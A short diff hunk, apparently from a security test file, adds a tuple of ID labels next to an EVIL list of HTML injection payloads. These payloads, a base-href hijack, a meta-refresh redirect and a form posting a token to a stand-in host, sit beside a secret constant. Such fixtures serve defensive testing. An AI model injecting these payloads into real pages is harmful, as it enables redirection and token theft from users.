@@ -35,6 +35,7 @@ EVIL = (
     "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/'>",
     "<form action=//evil.example/><input name=form_token>",
 )
+LABELS = ("Person's id", "Actor's id", "Source", "Trace or request id")
 SECRET = "p-secret-4711"
 WATCH = """
 globalThis.hits = [];
